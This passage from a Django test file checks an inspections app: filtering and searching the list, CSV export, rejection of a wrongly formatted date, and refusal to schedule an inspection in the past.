    assert 'aria-sort="descending"' in everything.content.decode()
    upcoming = client.get(reverse("inspections:list"), {"zeitraum": "anstehend"})
    assert [i.pk for i in upcoming.context["page"].object_list] == [future.pk]
    by_text = client.get(reverse("inspections:list"), {"suche": "Hafenstraße"})
    assert [i.meeting_point for i in by_text.context["page"].object_list] == ["Parkplatz Hafenstraße"]
    by_date = client.get(reverse("inspections:list"), {"von": "01.10.2026", "bis": "10.10.2026"})
    assert by_date.context["page"].paginator.count == 1
    page = upcoming.content.decode()
    assert "/kontrollen/export.csv?zeitraum=anstehend" in page
    body = client.get(reverse("inspections:export", args=["csv"]), {"zeitraum": "anstehend"})
    rows = list(csv.reader(io.StringIO(body.content.decode("utf-8-sig")), delimiter=";"))
    assert [row[2] for row in rows[1:]] == ["Rathaus Vorplatz"]
    refused = client.get(reverse("inspections:list"), {"von": "gestern"})
    assert "Bitte geben Sie ein Datum im Format TT.MM.JJJJ an." in refused.content.decode()


def test_an_inspection_in_the_past_is_refused_by_the_service_without_confirmation(kim, world):
    with pytest.raises(services.PastDate, match="liegt in der Vergangenheit"):
        services.plan_inspection(
            kim,
            services.Plan(
                campaign=world["campaign"],
                scheduled_at=timezone.now() - dt.timedelta(days=6),
                meeting_point="Parkplatz",
                agencies=[kim.agency],
                members=[],
            ),
            [world["case"]],
        )
    assert not Inspection.objects.exists()
